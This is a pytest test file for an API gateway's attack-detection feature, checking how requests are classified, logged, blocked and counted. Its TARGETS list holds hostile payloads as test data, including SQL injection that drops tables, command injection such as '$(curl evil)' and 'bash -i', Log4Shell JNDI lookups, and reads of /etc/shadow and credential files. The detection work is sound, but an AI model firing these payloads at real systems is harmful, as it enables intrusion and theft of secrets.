"""Requests that look like attacks: what is told of them, what is refused, and what nothing is said of."""

from __future__ import annotations

import re
from typing import Any

import pytest

from gateway.policies.attack_patterns import CATEGORIES, RULES, SEVERITIES, WORDS, Attack, Patterns
from gateway.policies.attacks import Detection
from gateway.settings import ProxySettings, Settings
from gateway.telemetry.attackers import AttackerCounts, Attackers
from gateway.telemetry.exposition import Moment, exposition
from gateway.telemetry.ledger import Ledger
from gateway.telemetry.tally import Tally
from tests.gateway.one_worker import one_worker
from tests.gateway.reports import report_of
from tests.gateway.running import settings_for
from tests.gateway.stage import Stage, staged
from tests.gateway.upstream import ControlledUpstream

#: Targets as they come over the wire.
TARGETS = {
    "sql_injection": [
        "/u?id=1%27%20OR%20%271%27=%271", "/u?id=1+or+1=1", "/u?id=1)+and+(2=2", "/u?id=-1+union+all+select+1,2,3",
        "/u?id=1%2527%2520or%25201%253D1", "/u?id=1/**/union/**/select/**/1", "/u?n=admin%27--", "/u?n=x%27%23",
        "/u?id=1;drop%20table%20users", "/u?id=1;+waitfor+delay+%270:0:5%27", "/u?id=1+and+sleep(5)",
        "/u?id=(select+password+from+users)", "/u?id=1+into+outfile+%27/tmp/x%27", "/u?s=benchmark(1000000,md5(1))",
        "/u/1%27or%271%27=%271", "/u?t=(information_schema.tables)", "/u?o=1+order+by+9--",
    ],
    "xss": [
        "/s?q=%3Cscript%3Ealert(1)%3C/script%3E", "/s?q=%253Cscript%253Ealert(1)%253C/script%253E", "/s?q=<ScRiPt >x",
        "/s?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "/s?q=%3Csvg/onload=alert(1)%3E", "/s?u=javascript:alert(1)",
        "/s?u=data:text/html;base64,PHNjcmlwdD4=", "/s?q=%22%20onmouseover=%22x", "/s?q=(document.cookie)",
        "/s?q=confirm%60x%60", "/s?q=%3Ciframe%20srcdoc=x", "/%3Cscript%3E/x",
    ],
    "path_traversal": [
        "/f?name=../../etc/passwd", "/f?name=..%2f..%2fwin.ini", "/f?name=%252e%252e%252fsecret", "/f?name=..%5c..%5cx",
        "/f?name=/etc/shadow", "/f?u=file:///x", "/f?u=php://filter/read=x", "/f?n=x%00.png", "/f?n=/proc/self/environ",
        "/f?dir=..",
    ],
    "command_injection": [
        "/p?host=1.2.3.4;cat%20/etc/hostname", "/p?host=x%7Cid", "/p?host=x%26%26whoami", "/p?host=%60id%60",
        "/p?host=$(curl%20evil)", "/p?c=/bin/bash+-i", "/p?h=%28%29%20%7B%20%3A%3B%20%7D%3B", "/p?c=cmd.exe+/c+dir",
        "/p?host=x%0Awget+x", "/p?h=a;cat$%7BIFS%7Dx",
    ],
    "log4shell": [
        "/l?x=$%7Bjndi:ldap://evil/a%7D", "/l?x=%24%7B%24%7Blower:j%7Dndi:x%7D", "/l?x=${${::-j}${::-n}di:x}",
        "/$%7Bjndi:dns:x%7D",
    ],
    "scanner": [
        "/.env", "/.git/config", "/wp-login.php", "/x/phpMyAdmin/index.php", "/cgi-bin/test", "/actuator/heapdump",
        "/.aws/credentials", "/vendor/phpunit/phpunit/src/x.php",
    ],
}  # fmt: skip
HARMLESS = [
    "/", "/api/v1/users/4711/orders?page=2&size=50&sort=-created_at", "/search?q=rock+%26+roll", "/s?q=O%27Brien",
    "/s?q=Select+Committee+on+Unions", "/s?q=union+jack", "/s?q=drop+table+lamp", "/s?q=1+or+2", "/s?q=salt+and+pepper",
    "/odata/Products?$filter=Name%20eq%20%27Milk%27%20and%20Price%20gt%205", "/s?q=c%2B%2B+or+c%23", "/s?q=%3C3",
    "/rest/search?jql=project%20%3D%20%22A%22%20and%20status%20%3D%20%22Open%22", "/x?filter[name]=a&sort[]=b",
    "/g?query=%7Buser(id:1)%7Bname%7D%7D", "/g?q=query+%7B+orders(first:+5)+%7B+id+%7D+%7D", "/x?a=1&id", "/x?ls&cat=5",
    "/x?next=https://example.com/a/b?c%3Dd", "/x?d=2024-01-01T00:00:00%2B02:00", "/x?e=ana%40example.com", "/~ana/a..b",
    "/x?t=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhIn0.c2ln", "/x?b=aGVsbG8gd29ybGQ%3D", "/a;v=1/b;w=2", "/x?p=10%25",
    "/x?p=100%",
    "/x?q=%D0%BF%D1%80%D0%B8%D0%B2%D0%B5%D1%82", "/x?q=caf%C3%A9", "/x?title=The+script+of+the+play", "/x?on=1&off=0",
    "/x?json=%7B%22a%22%3A%5B1%2C2%5D%7D", "/x?version=1..2", "/x?range=1...5", "/.well-known/openid-configuration",
    "/x?q=sleep+well", "/x?q=alert+me+(soon)", "/x?q=password+reset", "/x?order=by_name", "/x?q=update+my+order",
    "/x?q=%22exact+phrase%22+-without", "/x?q=a--b", "/x?q=(a+or+b)+and+c", "/x?price=%3E10&price=%3C20",
    "/content/on-line",
    "/x?q=%27quoted%27+and+more", "/x?tpl=%24%7Bname%7D", "/wp/x", "/environment", "/x?cmd=list", "/x?shell=bash",
]  # fmt: skip
AGENTS = [
    "Mozilla/5.0 (X11; Linux x86_64; rv:126.0) Gecko/20100101 Firefox/126.0",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0.0.0 Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "curl/8.5.0", "okhttp/4.12.0",
    "python-requests/2.32 (sh; id)", "kube-probe/1.30", "Prometheus/2.52.0", "ELB-HealthChecker/2.0",
]  # fmt: skip


@pytest.mark.parametrize(("category", "target"), [(name, one) for name, known in TARGETS.items() for one in known])
def test_what_an_attack_looks_like(category: str, target: str) -> None:
    assert Patterns(CATEGORIES).in_target(target.encode()) == category


@pytest.mark.parametrize("target", HARMLESS)
def test_what_is_no_attack(target: str) -> None:
    assert Patterns(CATEGORIES).in_target(target.encode()) is None


def test_who_scans_by_the_name_of_the_agent() -> None:
    patterns = Patterns(CATEGORIES)
    assert {patterns.in_agent(agent.encode()) for agent in AGENTS} == {None}
    scanners = ["sqlmap/1.8#stable (https://sqlmap.org)", "Mozilla/5.00 (Nikto/2.5.0)", "Nuclei - Open-source project"]
    assert {patterns.in_agent(agent.encode()) for agent in scanners} == {"scanner"}
    assert patterns.in_agent(b"${jndi:ldap://x}") == "log4shell"
    assert Patterns(["xss"]).in_agent(b"sqlmap") is None


def test_no_pattern_repeats_without_a_bound() -> None:
    """So that no text takes more than time in proportion to its length, whoever has made it up."""
    assert {category for category, _, _ in RULES} | {"scanner"} == set(CATEGORIES) == set(SEVERITIES) == set(WORDS)
    for _, needles, pattern in RULES:
        text = re.sub(rb"\\.|\[[^\]]*\]", b"", pattern.pattern)
        assert not re.search(rb"[*+](?!\?)|\{\d*,\}", text), pattern.pattern
        assert all(needle == needle.lower() for needle in needles)


def _document(upstream: ControlledUpstream, **detection: Any) -> dict[str, Any]:
    document = settings_for(upstream.url)
    document["security"] = {"detection": {"enabled": True, **detection}}
    document["routes"] = [
        {"id": "search", "path": "/search", "upstream_id": "backend",
         "detection": {"exclude_categories": ["xss"], "exclude_parameters": ["q"]}},
        {"id": "open", "path": "/open", "upstream_id": "backend", "detection": {"mode": "off"}},
        {"id": "shut", "path": "/shut", "upstream_id": "backend", "detection": {"mode": "block"}},
        {"id": "shop", "path": "/shop", "upstream_id": "backend"},
    ]  # fmt: skip
    return document


def _staged(document: dict[str, Any], tally: Tally) -> Any:
    settings = ProxySettings.of(Settings.model_validate(document)).security.detection
    return staged(document, Detection(settings, tally).policy)


def _told(stage: Stage) -> list[dict[str, Any]]:
    return [record for record in stage.records() if record["event_type"] == "attack_detected"]


async def test_it_is_told_without_what_was_sent_and_passed_on(shared_upstream: ControlledUpstream) -> None:
    tally = Tally()
    async with _staged(_document(shared_upstream), tally) as stage, stage.caller() as caller:
        sent = "/shop/item?id=1%27+union+select+card+from+payments&password=hunter2"
        answer = await caller.get(sent)
        [told] = _told(stage)
    assert (answer.status, answer.json()["target"]) == (200, sent)
    # As runbook 000 searches the log of Splunk.
    words = ("injection", "XSS", "attack", "exploit")
    assert any(word in told["message"] for word in words)
    assert {name: told[name] for name in ("src_ip", "api_path", "event_type", "category", "severity", "action")} == {
        "src_ip": "127.0.0.1", "api_path": "/shop/item", "event_type": "attack_detected", "category": "sql_injection",
        "severity": "critical", "action": "logged",
    }  # fmt: skip
    assert (told["level"], told["component"], told["route"]) == ("WARNING", "security", "shop")
    assert "union" not in str(told)
    assert "hunter2" not in str(told)
    counted = {(route, category): count for route, category, count in tally.take()["attacks"]}
    assert counted["shop", "sql_injection"] == 1
    assert counted["shop", "xss"] == 0, "an alert sees the first one only where there was a zero before"


@pytest.mark.parametrize("category", CATEGORIES)
def test_what_runbook_000_searches_for_is_in_the_words(category: Any) -> None:
    assert re.search("injection|XSS|attack|exploit", WORDS[category])
    assert Attack(category, "query").severity in ("critical", "high", "low")


async def test_routes_have_exclusions_and_may_refuse(shared_upstream: ControlledUpstream) -> None:
    script, union = "%3Cscript%3Ex", "1+union+select+2"
    async with _staged(_document(shared_upstream), Tally()) as stage, stage.caller() as caller:
        for target in (f"/search?x={script}", f"/search?q={union}", f"/open?q={union}"):
            assert (await caller.get(target)).status == 200
        assert _told(stage) == []
        assert (await caller.get(f"/search?q=a&x={union}")).status == 200
        refused = await caller.get(f"/shut?x={script}")
        records = stage.records()
    assert (refused.status, refused.json()["error"]) == (403, "attack_detected")
    assert "script" not in refused.json()["message"], "nobody learns by what it was found"
    told = [(one["category"], one["action"]) for one in records if one["event_type"] == "attack_detected"]
    assert told == [("sql_injection", "logged"), ("xss", "blocked")]
    assert records[-1]["error_type"] == "attack_detected"


async def test_headers_are_looked_at_and_long_texts_only_so_far(shared_upstream: ControlledUpstream) -> None:
    async with _staged(_document(shared_upstream, max_bytes=200), Tally()) as stage, stage.caller() as caller:
        await caller.get("/shop", user_agent="${jndi:ldap://x}")
        await caller.get("/shop", user_agent="sqlmap/1.8" + " " * 300)
        await caller.get("/shop", referer="http://a/?q=<script>")
        await caller.get("/shop", x_other="${jndi:ldap://x}")
        await caller.get("/shop?x=" + "a" * 300 + "<script>")
        await caller.get("/shop/%3Cscript%3E/x")
        told = [one["message"].rpartition(" in the ")[2] for one in _told(stage)]
    assert told == ["header user-agent", "header user-agent", "header referer", "path"]


async def test_a_flood_of_them_does_not_flood_the_log(shared_upstream: ControlledUpstream) -> None:
    now, tally = [100.0], Tally()
    settings = ProxySettings.of(Settings.model_validate(_document(shared_upstream, max_records_per_sec=2)))
    detection = Detection(settings.security.detection, tally)
    document = _document(shared_upstream)
    async with staged(document, detection.policy, clock=lambda: now[0]) as stage, stage.caller() as caller:
        for _ in range(5):
            await caller.get("/shop?x=%00")
        now[0] += 1
        await caller.get("/shop?x=%00")
        told = [one.get("untold") for one in _told(stage)]
        attackers = stage.plane.journal.attackers.take()
    assert told == [None, None, 3]
    assert ["shop", "path_traversal", 6] in tally.take()["attacks"]
    assert attackers == [["127.0.0.1", "path_traversal", 6]]


async def test_a_worker_looks_at_what_no_route_takes_and_at_nothing_without_being_told(
    shared_upstream: ControlledUpstream,
) -> None:
    document = _document(shared_upstream)
    async with one_worker(document) as worker, worker.caller() as caller:
        assert (await caller.get("/.env")).status == 404
        report = await worker.report()
        assert ["_unmatched", "scanner", 1] in report["counted"]["attacks"]
        assert report["attackers"] == [["127.0.0.1", "scanner", 1]]
        await worker.reload({**document, "security": {"detection": {"enabled": False}}})
        assert (await caller.get("/.env")).status == 404
        assert (await caller.get("/shut?x=%3Cscript%3E")).status == 200
        assert (await worker.report())["counted"]["attacks"] == []


def test_attacks_detected_total_is_by_route_and_category() -> None:
    ledger, tally = Ledger(100), Tally()
    tally.attacks_watched("shop", ["xss", "log4shell"])
    tally.attack_detected("shop", "xss")
    ledger.absorb(report_of(tally.take()), at=1.0)
    page = exposition(ledger, Moment(2.0, 1.0, "v", 1, 1))
    assert 'attacks_detected_total{category="xss",route="shop"} 1.0' in page
    assert 'attacks_detected_total{category="log4shell",route="shop"} 0.0' in page


def test_who_attacks_most_is_told_in_bounded_memory() -> None:
    counts, attackers = AttackerCounts(), Attackers()
    counts.add(b"10.0.0.7", "scanner")
    for number in range(1200):
        counts.add(f"10.0.{number // 256}.{number % 256}".encode(), "xss")
    rows = counts.take()
    assert len(rows) <= 502
    for _ in range(3):
        attackers.add(1000.0, rows)
    attackers.add(1000.0, [[f"2001:db8:{number:x}::/64", "xss", 1] for number in range(1500)])
    told = attackers.answer(1000.0, 3)
    assert told["attackers"][0] == {"src_ip": "10.0.0.7", "count": 6, "categories": {"xss": 3, "scanner": 3}}
    assert len(told["attackers"]) == 3
    assert told["detected"] == {"xss": 3 * 1200 + 1500, "scanner": 3}
    assert sum(len(one) for one in attackers._spans.since(0)) <= 501


@pytest.mark.parametrize(
    "detection", [{"mode": "off"}, {"categories": []}, {"categories": ["sql"]}, {"max_bytes": 1}, {"headers": ["a b"]}]
)
def test_what_is_not_allowed(detection: dict[str, Any]) -> None:
    document = {**settings_for("http://a"), "security": {"detection": detection}}
    with pytest.raises(ValueError, match=r"security\.detection"):
        Settings.model_validate(document)
